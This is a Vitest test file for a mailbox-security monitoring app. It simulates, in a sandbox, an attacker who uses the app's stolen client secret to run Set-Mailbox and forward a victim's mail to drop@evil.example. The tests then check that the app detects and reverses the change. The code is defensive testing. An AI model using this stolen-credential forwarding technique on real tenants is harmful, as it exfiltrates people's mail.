/** What our own app does: explained by a fix of ours it alerts nobody; done with a stolen secret it is told as anybody's act would be. */
import { expect, it } from "vitest"
import { buttonOn, channelOf, until } from "../../sandbox/observe.ts"
import { playStory } from "../../sandbox/stories/play.ts"
import { customer } from "../../sandbox/stories/story.ts"
import { RESPOND_APP_ID } from "../../sandbox/world/create-world.ts"
import { createTokens } from "../../src/adapters/entra/tokens.ts"
import { createMailboxAdmin } from "../../src/adapters/exchange/mailbox-admin.ts"
import { createHttpClient } from "../../src/adapters/http/http-client.ts"
import { tenantId } from "../../src/model/ids.ts"
import { cardOffering, cardsIn, textOf, trailOf, triageOf, verified } from "./in-teams.ts"
import { FIX, personNamed, pressAs, victimOf } from "./press.ts"
import { practiceForEach } from "./running-practice.ts"

const practice = practiceForEach()

const ownRecords = async (): Promise<readonly string[]> =>
  (await trailOf(practice)).filter(({ kind }) => kind === "own-record").map(({ what }) => what)

/** As whoever stole it would: with nothing of ours but the secret. */
function thief() {
  const { world, endpoints } = practice.cloud
  const secret = world.apps.find(({ appId }) => appId === RESPOND_APP_ID)?.secret ?? ""
  const registration = { clientId: RESPOND_APP_ID, credential: { kind: "secret", secret } } as const
  const registrations = { monitor: registration, respond: registration }
  const tokens = createTokens({ loginUrl: endpoints.login, registrations, now: Date.now })
  return createMailboxAdmin({ exchangeUrl: endpoints.exchange, tokens, http: createHttpClient() })
}

it.each([
  ["02-inbox-rule", "Disable this rule"],
  ["10-app-consent", "Remove this consent"],
])("explains the records of a fix and of its undo, of %s", async (story, fix) => {
  const before = (await ownRecords()).length
  await playStory(practice.cloud, story)
  const card = await cardOffering(practice, fix)
  const kim = personNamed(practice.world, "technician")
  await pressAs(practice, kim, card, fix)
  await verified(practice, card)
  const undo = `Undo: ${fix.charAt(0).toLowerCase()}${fix.slice(1)}`
  await until(practice.world, () => buttonOn(card, undo), "a card that can be undone")
  await pressAs(practice, kim, card, undo)

  const records = async (): Promise<readonly string[]> => (await ownRecords()).slice(before)
  await expect.poll(async () => (await records()).length, { timeout: 60_000 }).toBeGreaterThanOrEqual(2)
  expect((await records()).filter((what) => !what.startsWith("The audit log confirms"))).toEqual([])
})

it("takes only one record for what an undo did: the same done once more with our secret is told", async () => {
  await playStory(practice.cloud, "01-forwarding")
  const card = await cardOffering(practice, FIX)
  const kim = personNamed(practice.world, "technician")
  await pressAs(practice, kim, card, FIX)
  await verified(practice, card)
  const undo = "Undo: stop forwarding"
  await until(practice.world, () => buttonOn(card, undo), "a card that can be undone")
  await pressAs(practice, kim, card, undo)
  await expect.poll(async () => (await ownRecords()).length, { timeout: 60_000 }).toBe(2)
  const { upn, forwardingSmtpAddress, deliverToMailboxAndForward } = victimOf(practice.world)

  const parameters = {
    ...{ Identity: upn, ForwardingSmtpAddress: forwardingSmtpAddress, Confirm: false },
    DeliverToMailboxAndForward: deliverToMailboxAndForward,
  }
  const contoso = tenantId(customer(practice.cloud, "contoso").id)
  await thief().invoke(contoso, { cmdlet: "Set-Mailbox", parameters }, upn, AbortSignal.timeout(60_000))

  await expect.poll(async () => (await ownRecords()).length, { timeout: 60_000 }).toBe(3)
  expect((await ownRecords()).map((what) => what.startsWith("The audit log confirms"))).toEqual([
    true,
    true,
    false,
  ])
})

it("raises a card that says so, is stopped like any other, and our own fix of it alerts nobody", async () => {
  const contoso = customer(practice.cloud, "contoso")
  const [mailbox] = contoso.mailboxes
  if (mailbox === undefined) throw new Error("contoso has no mailbox")
  const parameters = { Identity: mailbox.upn, ForwardingSmtpAddress: "drop@evil.example", Confirm: false }

  await thief().invoke(
    tenantId(contoso.id),
    { cmdlet: "Set-Mailbox", parameters },
    mailbox.upn,
    AbortSignal.timeout(60_000),
  )

  const card = await cardOffering(practice, FIX, "drop@evil.example")
  expect(textOf(card)).toContain("somebody who holds the secret of Watchpost's own app")
  await pressAs(practice, personNamed(practice.world, "technician"), card, FIX)
  await verified(practice, card)
  expect(mailbox.forwardingSmtpAddress).toBeNull()
  expect(cardsIn(triageOf(practice))).toHaveLength(1)
  const [told, ...others] = cardsIn(channelOf(practice.world, "customer", "contoso"))
  if (told === undefined) throw new Error("the customer was told nothing")
  expect(others).toEqual([])
  expect(textOf(told)).toContain("Mailbox forwards to an outside address.")
  expect(textOf(told)).not.toContain("secret")
})
